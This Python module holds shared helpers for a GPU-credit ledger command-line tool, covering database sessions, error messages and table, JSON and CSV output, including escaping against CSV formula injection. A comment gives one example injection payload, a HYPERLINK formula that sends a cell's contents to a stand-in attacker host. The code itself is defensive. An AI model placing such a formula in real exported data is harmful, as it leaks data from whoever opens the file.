"""What every gpucredit CLI command shares: the database session, output formats, errors.

Other packages' sub-groups import this (arrows point toward the ledger).
"""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime
from typing import Any, TypeVar

import click

from ledger.config import load_config
from ledger.errors import InvalidInput, LedgerError
from ledger.timeutil import parse_time

F = TypeVar("F", bound=Callable[..., Any])
FORMATS = ("table", "json", "csv")

format_option = click.option(
    "--format", "fmt", type=click.Choice(FORMATS), default="table", show_default=True, help="Output format."
)
at_option = click.option(
    "--at",
    "at",
    default=None,
    metavar="TIME",
    help="Effective time (ISO 8601, UTC when no offset); default now.",
)
key_option = click.option(
    "--idempotency-key",
    "idempotency_key",
    default=None,
    metavar="KEY",
    help="Repeat-safe key: a repeat returns the first result.",
)

_engines: dict[str, Any] = {}


def engine_for(url: str | None = None) -> Any:
    from ledger.store.db import make_engine

    url = url or load_config()["database"]["url"]
    if url not in _engines:
        _engines[url] = make_engine(url)
    return _engines[url]


@contextmanager
def transaction() -> Iterator[Any]:
    """One session and one transaction for a command: commit on success, roll back on error."""
    from ledger.store.db import make_sessionmaker

    with make_sessionmaker(engine_for())() as session, session.begin():
        yield session


def parse_time_option(value: str | None, field: str) -> datetime | None:
    return None if value is None else parse_time(value, field=field)


def ledger_command(func: F) -> F:
    """Turn ledger refusals into a one-line message and exit status: 2 bad input, 1 refused.

    A database that refuses this user (a read-only SQLite file, a PostgreSQL role without
    the right) or does not answer is one line too, never SQLAlchemy's statement and its
    parameters: exit 1."""
    from sqlalchemy.exc import DBAPIError

    @functools.wraps(func)
    def wrapper(*args: Any, **kwargs: Any) -> Any:
        try:
            return func(*args, **kwargs)
        except LedgerError as error:
            click.echo(f"error: {error.code}: {error.message}", err=True)
            sys.exit(2 if isinstance(error, InvalidInput) else 1)
        except DBAPIError as error:
            click.echo(f"error: {database_refusal(error)}", err=True)
            sys.exit(1)

    return wrapper  # type: ignore[return-value]


# What a driver says when this user may not read or change the ledger (SQLite, PostgreSQL).
_NOT_ALLOWED = ("readonly database", "unable to open database file", "permission denied", "read-only")


def database_refusal(error: Any) -> str:
    """One line for a database error met by a command: who may change the ledger and how,
    when this user may not; else what the database said (its first line, nothing more)."""
    import getpass

    from sqlalchemy.engine import make_url

    from ledger.store.db import sqlalchemy_url

    said = str(getattr(error, "orig", None) or error).strip().splitlines()[0]
    try:
        where = make_url(sqlalchemy_url(load_config()["database"]["url"])).render_as_string(
            hide_password=True
        )
    except Exception:  # the message must come out whatever the configuration holds
        where = "the configured database"
    if any(phrase in said.lower() for phrase in _NOT_ALLOWED):
        return (
            f"ledger_forbidden: user {getpass.getuser()} may not use the ledger at {where} ({said}); "
            "the ledger is changed by its owner: run the command as root (sudo gpucredit ...) "
            "or the database user in database.url, or use the portal"
        )
    return f"ledger_unavailable: the ledger database at {where} failed: {said}"


def emit(data: Any, fmt: str, columns: list[str] | None = None) -> None:
    """Print one object or a list of rows as a table, JSON or CSV."""
    if fmt == "json":
        click.echo(json.dumps(data, indent=2, sort_keys=False))
        return
    rows = data if isinstance(data, list) else [data]
    if not rows:
        if fmt == "table":
            click.echo("(none)")
        elif columns:  # a CSV of nothing still names its columns: a script reads the header
            click.echo(",".join(columns))
        return
    columns = columns or list(rows[0].keys())
    cells = [[_cell(row.get(c)) for c in columns] for row in rows]
    if fmt == "csv":
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow([spreadsheet_safe(c) for c in columns])
        writer.writerows([spreadsheet_safe(cell) for cell in row] for row in cells)
        click.echo(out.getvalue(), nl=False)
        return
    widths = [max(len(c), *(len(r[i]) for r in cells)) for i, c in enumerate(columns)]
    click.echo("  ".join(c.upper().ljust(w) for c, w in zip(columns, widths, strict=True)).rstrip())
    for r in cells:
        click.echo("  ".join(v.ljust(w) for v, w in zip(r, widths, strict=True)).rstrip())


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
# injection"): `=HYPERLINK("https://evil.example/?"&A1, "click")` in a user or partition
# name would run on the machine of whoever opens the CSV.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(\.[0-9]+)?$")


def spreadsheet_safe(value: Any) -> Any:
    """`value`, or, for a text that starts like a formula, the text after a `'`, which
    spreadsheets read as "this is text" and do not show. A plain number ("-1.50") is a
    number, not a formula, and so is left as it is, as is a lone "-" (the reports' "none":
    one character is no formula)."""
    if (
        isinstance(value, str)
        and len(value) > 1
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.match(value)
    ):
        return "'" + value
    return value


def _cell(value: Any) -> str:
    if value is None:
        return "-"
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, dict | list):
        return json.dumps(value, separators=(",", ":"))
    return str(value)
